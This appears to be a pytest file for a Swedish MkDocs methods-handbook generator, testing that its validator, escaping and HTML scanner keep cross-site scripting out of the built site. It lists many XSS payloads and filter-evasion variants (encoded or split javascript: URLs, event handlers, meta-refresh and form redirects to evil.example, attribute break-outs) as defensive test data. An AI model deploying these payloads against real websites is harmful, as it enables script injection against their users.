@@ -1,0 +1,282 @@
+"""Unsafe content never reaches the site: scripts, frames, styles, event handlers, javascript: and data: URLs.
+
+Three lines of defence, each tested on real built HTML:
+
+* the method body is validated: hostile Markdown or HTML is rejected with file and line, and the build fails;
+* near misses that are allowed (code, entities, allowed inline tags) render as harmless text;
+* front-matter text is escaped by pages.py wherever it appears, also when validation is bypassed.
+
+Every payload carries the marker MARK, so the scanner can tell a payload from the theme's own scripts.
+"""
+
+from __future__ import annotations
+
+import datetime
+import html
+import re
+import subprocess
+import sys
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from helpers import REPO, VALID_BODY, build_site, front_matter, make_method, make_project, method_text, write_config
+from metodbank import PageBuilder, link_methods, load_vocabulary
+from metodbank.loader import load_source
+from metodbank.model import BodySection, Method
+from metodbank.validate import validate_source
+
+MARK = "mbxss"
+TODAY = datetime.date(2026, 11, 23)
+URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href",
+                  "srcdoc", "ping", "cite"}
+NEVER = {"iframe", "object", "embed", "frame", "frameset", "applet", "base"}
+# Elements a payload could create; text in an ordinary attribute (aria-label, title) is harmless.
+FROM_PAYLOAD = {"img", "svg", "math", "style", "link", "form", "input", "button", "video", "audio", "source",
+                "textarea", "select", "script"}
+
+
+class Scanner(HTMLParser):
+    """Finds what could run code or load foreign content in one HTML document."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+        self._script: dict[str, str | None] | None = None
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        shown = f"<{tag} {attrs}>"
+        for name, value in attrs:
+            value = value or ""
+            if name.startswith("on"):
+                self.found.append("event handler: " + shown)
+            if name == "http-equiv":
+                self.found.append("http-equiv: " + shown)
+            if name in URL_ATTRIBUTES:
+                cleaned = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).lower()
+                if re.match(r"(javascript|data|vbscript|file):", cleaned):
+                    self.found.append("unsafe URL: " + shown)
+        if tag in NEVER:
+            self.found.append("element: " + shown)
+        elif MARK in str(attrs) and tag in FROM_PAYLOAD:
+            self.found.append("payload in element: " + shown)
+        if tag == "script":
+            self._script = dict(attrs)
+        if tag == "title":
+            self.set_cdata_mode("title")  # as in a browser: nothing but </title> ends it
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "script":
+            self._script = None
+
+    def handle_data(self, data: str) -> None:
+        if self._script is not None and MARK in data and self._script.get("type") != "application/json":
+            self.found.append("payload in a script: " + data[:120])
+
+
+def scan_site(site: Path) -> list[str]:
+    """Every unsafe thing in every HTML file of a built site, as 'file: what'."""
+    found = []
+    for path in sorted(site.rglob("*.html")):
+        scanner = Scanner()
+        scanner.feed(path.read_text(encoding="utf-8"))
+        scanner.close()
+        found += [f"{path.relative_to(site)}: {item}" for item in scanner.found]
+    return found
+
+
+def run(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {"PYTHONPATH": str(REPO / "hooks"), "PATH": "/usr/bin:/bin", "PYTHONIOENCODING": "utf-8"}
+    return subprocess.run([sys.executable, *args], cwd=project, capture_output=True, text=True, encoding="utf-8",
+                          env=env, timeout=180)
+
+
+# Hostile Markdown and HTML for a method body, and the problem each must give at the line where it starts
+# (or that many lines further down, where a reference definition or attribute list stands).
+HOSTILE = [
+    (f"<script>alert('{MARK}')</script>", "unsafe-html"),
+    (f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>", "unsafe-html"),
+    (f"<script\n>alert('{MARK}')</script>", "unsafe-html"),
+    (f"<scr<script>ipt>alert('{MARK}')</script>", "unsafe-html"),
+    (f'<iframe src="https://evil.example/{MARK}"></iframe>', "unsafe-html"),
+    (f'<object data="{MARK}.swf"></object>', "unsafe-html"),
+    (f'<embed src="{MARK}.swf">', "unsafe-html"),
+    ("<style>body { display: none }</style>", "unsafe-html"),
+    (f"<svg onload=alert('{MARK}')>", "unsafe-html"),
+    (f'<form action="https://evil.example/{MARK}"><input name="x"></form>', "unsafe-html"),
+    (f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">', "unsafe-html"),
+    (f'<base href="https://evil.example/{MARK}/">', "unsafe-html"),
+    (f'<link rel="stylesheet" href="https://evil.example/{MARK}.css">', "unsafe-html"),
+    (f"<img src=x onerror=\"alert('{MARK}')\">", "unsafe-html"),
+    (f"<img src=\"x.png\" alt=\"y\"\n  onerror=\"alert('{MARK}')\">", "unsafe-html"),
+    (f"Tryck <kbd onclick=\"alert('{MARK}')\">Ctrl</kbd>.", "unsafe-html"),
+    (f"Det här är <b\nonmouseover=\"alert('{MARK}')\">fetstilt</b>.", "unsafe-html"),
+    (f"<abbr title=\"x\" onfocus=alert('{MARK}')>AF</abbr>", "unsafe-html"),
+    (f"<blink onclick=alert('{MARK}')>x</blink>", "unsafe-html"),
+    (f'<a href="javascript:alert(\'{MARK}\')">länk</a>', "unsafe-url"),
+    (f'<b style="position:fixed">{MARK}</b>', "html-not-allowed"),
+    (f'<div class="{MARK}">ruta</div>', "html-not-allowed"),
+    (f"<javascript:alert('{MARK}')>", "unsafe-html"),
+    (f"<!--><script>alert('{MARK}')</script>-->", "unsafe-html"),
+    (f"!!! note \"<img src=x onerror=alert('{MARK}')>\"\n    Text.", "unsafe-html"),
+    (f"[Klicka](javascript:alert('{MARK}'))", "unsafe-url"),
+    (f"[Klicka](JaVaScRiPt:alert('{MARK}'))", "unsafe-url"),
+    (f"[Klicka](  javascript:alert('{MARK}') )", "unsafe-url"),
+    (f"[Klicka](<javascript:alert('{MARK}')>)", "unsafe-url"),
+    (f"[Klicka](java\tscript:alert('{MARK}'))", "unsafe-url"),
+    (f"[Klicka](java\nscript:alert('{MARK}'))", "unsafe-url"),
+    (f"[Klicka](&#106;avascript:alert('{MARK}'))", "unsafe-url"),
+    (f"[Klicka](&#x6A;avascript&colon;alert('{MARK}'))", "unsafe-url"),
+    (f"[Klicka](\njavascript:alert('{MARK}'))", "unsafe-url"),
+    (f"![Bild](data:image/svg+xml;base64,{MARK})", "unsafe-url"),
+    (f"![Bild](vbscript:msgbox('{MARK}'))", "unsafe-url"),
+    (f"[Klicka][ref]\n\n[ref]: javascript:alert('{MARK}')", "unsafe-url", 2),
+    (f"[Klicka][ref]\n\n[ref]:\n    javascript:alert('{MARK}')", "unsafe-url", 2),
+    (f"[Klicka](https://example.org){{ onclick=\"alert('{MARK}')\" }}", "unsafe-html"),
+    (f"Ett stycke.\n{{: onmouseover=\"alert('{MARK}')\" }}", "unsafe-html", 1),
+    (f"[Klicka](https://example.org){{: href=\"javascript:alert('{MARK}')\" }}", "html-not-allowed"),
+]
+
+
+def hostile_text(snippet: str) -> str:
+    return method_text(front_matter(), VALID_BODY + "\n## Exempel\n\n" + snippet + "\n")
+
+
+def line_of(text: str, snippet: str) -> int:
+    return text[: text.index(snippet)].count("\n") + 1
+
+
+@pytest.mark.parametrize(("snippet", "code", "offset"), [(*case, 0)[:3] for case in HOSTILE],
+                         ids=[f"{i:02d}" for i in range(len(HOSTILE))])
+def test_hostile_body_is_rejected_at_its_line(snippet, code, offset):
+    vocabulary, _ = load_vocabulary(REPO)
+    text = hostile_text(snippet)
+    source, problems = load_source("methods/x.md", "x", text.encode())
+    assert problems == [] and source is not None
+    _, problems = validate_source(source, vocabulary, TODAY)
+    assert (line_of(text, snippet) + offset, code) in [(p.line, p.code) for p in problems], problems
+    assert all(p.code in ("unsafe-html", "unsafe-url", "html-not-allowed", "empty-section") for p in problems), problems
+
+
+def test_build_with_hostile_bodies_fails_with_every_line_and_writes_no_page(tmp_path):
+    project = make_project(tmp_path / "project")
+    make_method(project, "ofarlig")
+    expected = []
+    for number, (snippet, _, offset) in enumerate((*case, 0)[:3] for case in HOSTILE):
+        path = project / "methods" / f"farlig-{number:02d}.md"
+        text = hostile_text(snippet)
+        path.write_text(text, encoding="utf-8")
+        expected.append(f"methods/{path.name}:{line_of(text, snippet) + offset}: ")
+    write_config(project)
+    result = run(project, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "site"))
+    assert result.returncode != 0
+    assert "Traceback" not in result.stdout + result.stderr
+    for where in expected:
+        assert where in result.stderr, where
+    site = project / "site"
+    assert not site.exists() or MARK not in "".join(p.read_text(errors="replace") for p in site.rglob("*.html"))
+
+
+NEAR_MISSES = f"""
+Kod visas som kod: `<script>alert('{MARK}')</script>` och `[x](javascript:alert('{MARK}'))`.
+
+```html
+<iframe src="https://evil.example/{MARK}"></iframe>
+<img src=x onerror="alert('{MARK}')">
+```
+
+~~~
+[Klicka](javascript:alert('{MARK}'))
+~~~
+
+Tecken som text: &lt;script&gt;alert('{MARK}')&lt;/script&gt; och 3 < 5 och a<b.
+
+<!-- en kommentar: {MARK} -->
+
+Tryck <kbd>Ctrl</kbd>, läs <abbr title="Arbetsförmedlingen">AF</abbr> och <mark>markera</mark>.
+
+Ordet javascript: i löptext, [en riktig länk](https://example.org/{MARK}) och [e-post](mailto:info@example.org).
+"""
+
+
+def test_allowed_near_misses_build_and_render_harmlessly(tmp_path):
+    project = make_project(tmp_path / "project")
+    make_method(project, "nara-ogat", body=VALID_BODY + "\n## Exempel\n" + NEAR_MISSES)
+    site = build_site(project)
+    assert scan_site(site) == []
+    page = (site / "metoder" / "nara-ogat" / "index.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(" in page  # shown, not run
+    assert "<kbd>Ctrl</kbd>" in page and '<abbr title="Arbetsförmedlingen">AF</abbr>' in page
+    assert MARK not in page.split("<!--", 1)[0] or "en kommentar" not in page
+
+
+# Front-matter values that pass validation but look like Markdown, HTML entities or attribute break-outs.
+FIELD_PAYLOADS = {
+    "title": f"[x](javascript:alert('{MARK}')) *fet* &lt;b&gt;",
+    "summary": f'0;url=https://evil.example/{MARK} " http-equiv="refresh" onmouseover="alert(1) '
+               f"![bild](data:image/png;base64,{MARK}) {{: onclick=\"alert(2)\" }} och mer text.",
+    "preparation": f"[Förbered](javascript:alert('{MARK}')) &#106;avascript:alert(3)",
+    "materials": [f"![a](javascript:alert('{MARK}'))", f"{MARK}@example.org"],
+    "authors": [f"[Anna](javascript:alert('{MARK}'))"],
+    "duration": {"min": 30, "max": 60, "span": f'" onclick="alert(\'{MARK}\')'},
+    "steps": {"anchoring": [f"[Steg](javascript:alert('{MARK}'))"], "delivery": [f"**{MARK}** {{ onclick=x }}"],
+              "follow_up": ["`kod` och _kursiv_"]},
+    "adaptations": {"reading": f"[Läs](data:text/html,{MARK})"},
+    "sources": [{"text": f"[Bok](javascript:alert('{MARK}'))", "url": f"https://example.org/?q=\"{MARK}\""}],
+}
+
+
+def test_front_matter_payloads_are_escaped_in_the_built_site(tmp_path):
+    project = make_project(tmp_path / "project")
+    make_method(project, "falt", **FIELD_PAYLOADS)
+    make_method(project, "granne", related=["falt"], after=["falt"])
+    site = build_site(project)
+    assert scan_site(site) == []
+    page = (site / "metoder" / "falt" / "index.html").read_text(encoding="utf-8")
+    assert "[x](javascript:alert(" in page  # the title is shown as written, not turned into a link
+    assert "![bild](data:image/png;base64," in page
+    description = re.search(r'<meta name="description" content="([^"]*)"', page)
+    assert description and "http-equiv" in description.group(1)  # inside the attribute, not a new one
+
+
+def test_page_builder_escapes_html_even_without_validation(tmp_path):
+    """pages.py escapes every front-matter string itself: feed it HTML that validation would have refused."""
+    evil = f"<img src=x onerror=alert('{MARK}')><script>alert('{MARK}')</script>\" onmouseover=\"alert(1)"
+    vocabulary, _ = load_vocabulary(REPO)
+    sections = tuple(BodySection(title, 1, "Text.") for title in
+                     ("Syfte", "Förankring", "Genomförande", "Efterarbete och implementering"))
+    methods = [
+        Method(id=method_id, path=f"methods/{method_id}.md", title=f"{method_id} {evil}", summary=f"Om {evil}",
+               easy_read=evil, phases=("delivery",), audience=("participant",), group_size={"min": 1, "max": 2},
+               duration={"min": 10, "max": 20, "span": evil}, preparation=evil, difficulty="easy",
+               roles=("facilitator",), materials=(evil,), cost="none", tags=("reflektion",), related=related,
+               steps={"anchoring": (evil,), "delivery": (evil,), "follow_up": (evil,)},
+               adaptations={"reading": evil}, sources=({"text": evil, "url": None},), authors=(evil,),
+               last_reviewed=TODAY, status="published", sections=sections)
+        for method_id, related in (("ett", ("tva",)), ("tva", ()))
+    ]
+    catalogue, problems = link_methods(methods)
+    assert problems == []
+    project = make_project(tmp_path / "project")
+    for page in PageBuilder(catalogue, vocabulary).build_pages():
+        path = project / "handbook" / page.src_uri
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(page.markdown, encoding="utf-8")
+    config = write_config(project, hooks=[], nav=None, validation={"links": {"not_found": "info",
+                                                                            "unrecognized_links": "info"}})
+    assert config.exists()
+    site = build_site(project, strict=False)
+    found = scan_site(site)
+    assert found == []
+    page = (site / "metoder" / "ett" / "index.html").read_text(encoding="utf-8")
+    assert "&lt;img src=x onerror=alert(" in page
+
+
+def test_a_title_cannot_close_the_title_element():
+    """The theme prints page titles through `striptags`, which decodes entities; so `<` stays out of titles."""
+    vocabulary, _ = load_vocabulary(REPO)
+    text = method_text(front_matter(title=f"</title><script>alert('{MARK}')</script>"))
+    source, _ = load_source("methods/x.md", "x", text.encode())
+    _, problems = validate_source(source, vocabulary, TODAY)
+    assert [(p.line, p.code) for p in problems] == [(2, "html-in-field")]
